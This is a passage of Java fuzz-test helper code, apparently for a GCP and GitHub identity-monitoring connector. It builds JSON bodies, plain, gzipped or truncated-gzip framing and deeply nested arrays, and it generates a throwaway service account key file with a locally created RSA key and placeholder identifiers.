        } else if (shape == 0 && (connector.equals("gcp") || connector.equals("github")) || shape == 2) {
            records.forEach(r -> text.append(r).append('\n'));
        } else {
            text.append(array(records));
        }
        byte[] body = text.toString().getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < raws.size(); i++) {
            body = replace(body, bytes("\"@@raw" + i + "@@\""), raws.get(i));
        }
        return body;
    }

    private static String array(List<ObjectNode> records) {
        ArrayNode array = JSON.createArrayNode();
        records.forEach(array::add);
        return array.toString();
    }

    /** 0 and 1 as they are, 2 gzip, 3 gzip cut off half-way. */
    private static byte[] frame(int frame, byte[] body) {
        return switch (frame) {
            case 2 -> gzip(body);
            case 3 -> {
                byte[] packed = gzip(body);
                yield Arrays.copyOf(packed, packed.length / 2);
            }
            default -> body;
        };
    }

    private static byte[] replace(byte[] in, byte[] marker, byte[] with) {
        for (int i = 0; i + marker.length <= in.length; i++) {
            if (Arrays.equals(in, i, i + marker.length, marker, 0, marker.length)) {
                byte[] out = new byte[in.length - marker.length + with.length];
                System.arraycopy(in, 0, out, 0, i);
                System.arraycopy(with, 0, out, i, with.length);
                System.arraycopy(in, i + marker.length, out, i + with.length, in.length - i - marker.length);
                return out;
            }
        }
        return in; // the marker's field was removed by a later mutation
    }

    private static byte[] nested(int depth) {
        return bytes("[".repeat(depth) + "]".repeat(depth));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] gzip(byte[] plain) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(packed)) {
            out.write(plain);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }

    /** A service account key file (https://cloud.google.com/iam/docs/keys-create-delete) with a key made here. */
    private static String serviceAccountKey(String tokenUri) {
        try {
            KeyPairGenerator rsa = KeyPairGenerator.getInstance("RSA");
            rsa.initialize(2048);
            String pem = "-----BEGIN PRIVATE KEY-----\n" + Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
                    .encodeToString(rsa.generateKeyPair().getPrivate().getEncoded()) + "\n-----END PRIVATE KEY-----\n";
            ObjectNode key = JSON.createObjectNode();
            key.put("type", "service_account");
            key.put("project_id", "fuzz-project");
            key.put("private_key_id", "fuzz0000000000000000000000000000000001");
            key.put("private_key", pem);
            key.put("client_email", "itdr-reader@fuzz-project.iam.gserviceaccount.com");
            key.put("client_id", "100000000000000000099");
            key.put("token_uri", tokenUri);
            return key.toString();
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException("every JDK has RSA", e);
        }
    }
}
